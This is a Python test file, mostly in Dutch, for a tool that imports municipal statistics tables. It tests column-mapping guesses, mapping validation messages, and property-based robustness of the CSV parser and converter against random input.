def test_a_cbs_open_data_table_prefers_the_code_column_over_the_name_column(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(
        csv_bytes(
            [
                ["ID", "Gemeentenaam_1", "SoortRegio_2", "Codering_3", "AantalInwoners_5"],
                ["1", "Amsterdam", "Gemeente", "GM0363    ", "931298"],
                ["2", "Amsterdam", "Wijk", "WK036300  ", "1000"],
            ]
        ),
        "85618NED.csv",
    )

    koppeling = koppeling_raden(tabel, INDICATOREN, zoeker=zoeker)

    assert koppeling is not None
    assert koppeling.gemeente_kolom == "Codering_3"
    assert dict(koppeling.indicator_kolommen) == {"AantalInwoners_5": "inwoners"}


def test_the_mapping_of_a_wide_table_with_years_as_headers_is_guessed() -> None:
    tabel = tabel_lezen(b"Gemeente;Onderwerp;2019;2020;2021*\nAmsterdam;huisartsen;1;2;3\n", "x.csv")

    assert koppeling_raden(tabel, INDICATOREN) == Koppeling(
        Vorm.BREED_JAREN,
        "Gemeente",
        indicator_kolom="Onderwerp",
        jaar_kolommen={"2019": 2019, "2020": 2020, "2021*": 2021},
    )


def test_the_mapping_of_a_long_table_is_guessed() -> None:
    tabel = lange_tabel(("Amsterdam", "2023", "inwoners", "1"))

    assert koppeling_raden(tabel, INDICATOREN) == LANG


def test_a_gemeente_column_without_a_telling_header_is_found_by_its_values(zoeker: GemeenteZoeker) -> None:
    tabel = tabel_lezen(b"Naam;Jaar;Aantal inwoners\nAmsterdam;2023;1\nDEN HAAG;2023;2\n", "x.csv")

    koppeling = koppeling_raden(tabel, INDICATOREN, zoeker=zoeker)

    assert koppeling is not None and koppeling.gemeente_kolom == "Naam"
    assert koppeling_raden(tabel, INDICATOREN) is None  # without a zoeker only headers count


# -- validating the mapping --


def lege_tabel(*kolommen: str) -> Tabel:
    """What the mapping form validates against: the columns, without rows."""
    return Tabel(list(kolommen), pd.DataFrame(columns=list(kolommen)), "", None, None)


def test_a_complete_mapping_has_no_problems_even_on_a_table_without_rows() -> None:
    assert LANG.valideren(lege_tabel("Gemeente", "Jaar", "Indicator", "Waarde")) == []


@pytest.mark.parametrize(
    ("koppeling", "in_probleem"),
    [
        (
            Koppeling(Vorm.LANG, "Regio", jaar_kolom="Jaar", vaste_indicator="x", waarde_kolom="Waarde"),
            "'Regio'",
        ),
        (
            Koppeling(
                Vorm.LANG,
                "Gemeente",
                jaar_kolom="Jaar",
                vaste_jaar=2023,
                vaste_indicator="x",
                waarde_kolom="Waarde",
            ),
            "niet allebei",
        ),
        (Koppeling(Vorm.LANG, "Gemeente", vaste_jaar=2023, vaste_indicator="x"), "de waarde"),
        (Koppeling(Vorm.LANG, "Gemeente", vaste_jaar=2023, waarde_kolom="Waarde"), "indicator"),
        (
            Koppeling(Vorm.LANG, "Gemeente", vaste_jaar=1800, vaste_indicator="x", waarde_kolom="Waarde"),
            "1900",
        ),
        (
            Koppeling(Vorm.LANG, "Gemeente", jaar_kolom="Gemeente", vaste_indicator="x", waarde_kolom="Waarde"),
            "eigen kolom",
        ),
        (Koppeling(Vorm.BREED_INDICATOREN, "Gemeente", vaste_jaar=2023), "niets om in te lezen"),
        (
            Koppeling(
                Vorm.BREED_INDICATOREN,
                "Gemeente",
                jaar_kolom="Jaar",
                indicator_kolommen={"Waarde": "x", "Indicator": "x"},
            ),
            "kies er één",
        ),
        (Koppeling(Vorm.BREED_JAREN, "Gemeente", vaste_indicator="x"), "niets om in te lezen"),
        (
            Koppeling(Vorm.BREED_JAREN, "Gemeente", vaste_indicator="x", jaar_kolommen={"2023": 2023}),
            "'2023'",
        ),
        (
            Koppeling(
                Vorm.BREED_JAREN,
                "Gemeente",
                vaste_indicator="x",
                jaar_kolommen={"Jaar": 2023, "Waarde": 2023},
            ),
            "kies er één",
        ),
        (Koppeling(Vorm.BREED_JAREN, "Gemeente", jaar_kolommen={"Waarde": 2023}), "indicator"),
    ],
    ids=[
        "onbekende-kolom",
        "jaar-dubbel-gekozen",
        "geen-waarde",
        "geen-indicator",
        "jaar-buiten-bereik",
        "kolom-twee-rollen",
        "breed-niets-gekoppeld",
        "breed-indicator-dubbel",
        "jaren-niets-gekoppeld",
        "jaren-onbekende-kolom",
        "jaren-jaar-dubbel",
        "jaren-geen-indicator",
    ],
)
def test_mapping_problems_are_explained(koppeling: Koppeling, in_probleem: str) -> None:
    problemen = koppeling.valideren(lege_tabel("Gemeente", "Jaar", "Indicator", "Waarde"))

    assert problemen
    assert any(in_probleem in p for p in problemen), problemen


# -- robustness: arbitrary input --


def tabel_klopt(tabel: Tabel) -> None:
    assert len(tabel.kolommen) >= 2
    assert len(set(tabel.kolommen)) == len(tabel.kolommen)
    assert list(tabel.rijen.columns) == tabel.kolommen
    assert len(tabel.rijen) >= 1
    assert len(tabel.regels()) == len(tabel.rijen)
    assert all(isinstance(cel, str) for rij in tabel.voorbeeld(len(tabel.rijen)) for cel in rij)


def gewone_fout(fout: ImportFout) -> bool:
    """Our own refusals, not the catch-all for a parser that crashed: text input must never crash us."""
    return str(fout) != importeren._ONVERWACHT


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=3000), st.sampled_from(["x.csv", "x.xlsx", "x.txt", "x", "x.CSV"]))
def test_random_bytes_give_a_table_or_an_import_error(inhoud: bytes, naam: str) -> None:
    try:
        tabel = tabel_lezen(inhoud, naam)
    except ImportFout as fout:
        assert str(fout)
        if not inhoud.startswith(b"PK"):
            assert gewone_fout(fout)
    else:
        tabel_klopt(tabel)


CSV_TEKENS = st.sampled_from([*";,\t\"\n\r .x-0123456789,aGM€ú'=@+%()", "GM0363", "Amsterdam", "2023JJ00"])


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=500), st.lists(CSV_TEKENS, max_size=200).map("".join)))
def test_random_text_gives_a_table_or_a_specific_import_error(tekst: str) -> None:
    for codering in ("utf-8", "utf-8-sig", "utf-16"):
        try:
            tabel = tabel_lezen(tekst.encode(codering, errors="replace"), "x.csv")
        except ImportFout as fout:
            assert gewone_fout(fout), repr(tekst)
        else:
            tabel_klopt(tabel)


CEL = st.one_of(
    st.sampled_from(
        ["", ".", "x", "-", "GM0363", "363", "Amsterdam", "BERGEN", "2023", "2023JJ00", "1850", "inwoners"]
    ),
    st.sampled_from(
        ["huisartsen", "Aantal inwoners", "12,5", "1.234,5", "1,234.5", "-7", "12,5%", "=1+1", "NaN", "inf"]
    ),
    st.text(max_size=8),
)
KOLOMMEN = ["A", "B", "C", "D"]


@st.composite
def koppelingen(draw: st.DrawFn) -> Koppeling:
    kolom = st.sampled_from([*KOLOMMEN, "Z"])
    misschien = st.one_of(st.none(), kolom)
    return Koppeling(
        vorm=draw(st.sampled_from(list(Vorm))),
        gemeente_kolom=draw(kolom),
        jaar_kolom=draw(misschien),
        vaste_jaar=draw(st.one_of(st.none(), st.integers(1800, 2200))),
        indicator_kolom=draw(misschien),
        vaste_indicator=draw(st.one_of(st.none(), st.sampled_from([*INDICATOREN, "onbekend"]))),
        waarde_kolom=draw(misschien),
        indicator_kolommen=draw(st.dictionaries(kolom, st.sampled_from([*INDICATOREN, "", "onbekend"]), max_size=3)),
        jaar_kolommen=draw(st.dictionaries(kolom, st.integers(1850, 2150), max_size=3)),
    )


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(CEL, min_size=4, max_size=4), min_size=0, max_size=8), koppelingen())
def test_converting_random_small_tables_never_raises_anything_but_an_import_error(
    zoeker: GemeenteZoeker, rijen: list[list[str]], koppeling: Koppeling
) -> None:
    tabel = Tabel(KOLOMMEN, pd.DataFrame(rijen, columns=KOLOMMEN, dtype=str), "csv", "utf-8", ";")
    try:
        omzetting = omzetten(tabel, koppeling, zoeker, INDICATOREN)
    except ImportFout as fout:
        assert koppeling.valideren(tabel) or "catalogus" in str(fout)
        return
    waarden = omzetting.waarden
    assert list(waarden.columns) == ["indicator", "gemeente", "jaar", "waarde"]
    assert not waarden.duplicated(["indicator", "gemeente", "jaar"]).any()
    assert waarden["waarde"].notna().all()
    assert all(2 <= a.regel <= len(rijen) + 1 and a.reden for a in omzetting.afgewezen)
    assert 0 <= omzetting.leeg <= 4 * len(rijen)
